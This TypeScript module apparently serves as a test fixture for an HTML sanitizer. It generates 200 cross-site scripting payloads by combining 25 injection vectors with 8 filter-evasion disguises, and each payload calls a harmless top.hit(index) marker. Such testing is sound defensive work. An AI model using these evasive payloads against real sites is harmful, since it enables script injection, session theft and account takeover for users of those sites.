// Two hundred texts that run as a script wherever a page takes a text for markup, an address or code.

export const PAYLOADS_WANTED = 200;

type Make = (call: string) => string;

/** Ways in: as markup, out of an attribute, as an address, out of a string of a script. */
const VECTORS: readonly Make[] = [
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<audio src=x onerror=${call}>`,
  (call) => `<style onload=${call}></style>`,
  (call) => `<iframe onload=${call}></iframe>`,
  (call) => `<iframe src="javascript:${call}"></iframe>`,
  (call) => `<iframe srcdoc="<img src=x onerror=${call}>"></iframe>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `</textarea><img src=x onerror=${call}>`,
  (call) => `</title></style></script><img src=x onerror=${call}>`,
  (call) => `<script>${call}</script>`,
  (call) => `"><img src=x onerror=${call}>`,
  (call) => `'><img src=x onerror=${call}>`,
  (call) => `" autofocus onfocus=${call} x="`,
  (call) => `' autofocus onfocus=${call} x='`,
  (call) => `<a href="javascript:${call}">açıq</a>`,
  (call) => `'-${call}-'`,
  (call) => `"-${call}-"`,
  (call) => `\${${call}}`,
  (call) => `</script><script>${call}</script>`,
  (call) => `\\';${call};//`,
];

/** The same, as filters do not expect it. */
const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll(/<(\/?)([a-z]+)/g, (_all, end: string, name: string) => `<${end}${mixed(name)}`),
  (text) => text.replaceAll(/ (on\w+)=/g, '\n$1\t='),
  (text) => text.replaceAll(/(?: src=x)? (on\w+)=/g, (_all, name: string) => `/src=0 /${mixed(name)}=`),
  (text) => `Əli dedi: ${text} və getdi`,
  (text) => `\u200f${text}`,
  (text) => text.replaceAll('javascript:', ' java\tscript:').replaceAll('onerror', 'OnErRoR'),
  (text) => `&lt;b&gt;${text}<!--`,
];

/** All of them; each calls `hit` of the topmost window with its own place in this list. */
export const PAYLOADS: readonly string[] = VECTORS.flatMap((make) =>
  DISGUISES.map((disguise) => ({ make, disguise })),
).map(({ make, disguise }, index) => disguise(make(`top.hit(${index})`)));

function mixed(name: string): string {
  return [...name].map((letter, index) => (index % 2 === 0 ? letter.toUpperCase() : letter)).join('');
}
